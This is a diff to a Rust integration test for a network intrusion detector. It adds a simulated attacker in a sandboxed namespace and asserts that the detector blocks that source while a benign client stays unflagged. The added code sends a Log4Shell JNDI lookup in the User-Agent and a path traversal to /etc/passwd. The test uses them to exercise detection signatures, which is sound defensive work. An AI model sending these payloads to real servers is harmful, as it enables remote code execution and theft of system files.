@@ -20,6 +20,12 @@
 //! A slow scan (`nmap -sS --scan-delay 5s` over 14 ports, about 70 s) runs alongside
 //! and must be found in both, with its duration.
 //!
+//! One more address sends a single exploit request (a Log4Shell lookup in the user
+//! agent, a traversal to `/etc/passwd` in the query): the capture's HTTP requests go
+//! through the web signatures, so that source is blocked with the request as evidence
+//! (input `target.pcap#http`, with the status the server answered), and the client's page
+//! loads stay benign.
+//!
 //! Not covered here yet (see the issue): a real sshd.
 
 mod common;
@@ -170,7 +176,7 @@ fn nmap_scans_are_detected_from_a_capture_and_the_client_is_not() {
         &scn,
         "ip addr add 10.77.0.1/24 dev veth0 && ip link set veth0 up",
     );
-    for i in 11..=17 {
+    for i in 11..=18 {
         sh(&scn, &format!("ip addr add 10.77.0.{i}/24 dev veth0"));
     }
     sh(
@@ -268,6 +274,11 @@ fn nmap_scans_are_detected_from_a_capture_and_the_client_is_not() {
         scn.exec_ok("nmap", &args);
     }
     cli.exec_ok("python3", &["-c", client]);
+    let exploit = "import http.client\n\
+                   c = http.client.HTTPConnection('10.77.0.2', 8080, timeout=5, source_address=('10.77.0.18', 0))\n\
+                   c.request('GET', '/?page=../../../../etc/passwd', headers={'User-Agent': '${jndi:ldap://10.77.0.18:1389/a}'})\n\
+                   c.getresponse().read()";
+    scn.exec_ok("python3", &["-c", exploit]);
     let mut slow = slow;
     assert!(
         slow.wait().expect("slow nmap").success(),
@@ -300,6 +311,27 @@ fn nmap_scans_are_detected_from_a_capture_and_the_client_is_not() {
     let c = &sources["10.78.0.1"];
     assert!(c.get("port_scan").is_none(), "client flagged: {c}");
     assert_ne!(c["decision"], "block", "{c}");
+    assert_eq!(c["verdict"], "benign", "client's page loads: {c}");
+    // The exploit request, from the capture's HTTP requests.
+    let http_input = &summary["inputs"][1];
+    assert!(
+        http_input["name"]
+            .as_str()
+            .unwrap()
+            .ends_with("target.pcap#http"),
+        "{summary}"
+    );
+    assert_eq!(http_input["format"], "combined", "{summary}");
+    assert!(http_input["lines"].as_u64().unwrap() >= 31, "{summary}");
+    let x = &sources["10.77.0.18"];
+    assert_eq!(x["decision"], "block", "exploit sender: {x}");
+    let sigs = x["signatures"].to_string();
+    assert!(sigs.contains("log4shell-jndi"), "{x}");
+    let reasons = x["reasons"].to_string();
+    assert!(
+        reasons.contains("target.pcap#http:") && reasons.contains("-> 200"),
+        "{x}"
+    );
     let slow_scan = |sources: &std::collections::HashMap<String, serde_json::Value>| {
         let s = &sources["10.77.0.17"];
         assert_eq!(s["decision"], "block", "slow scan: {s}");
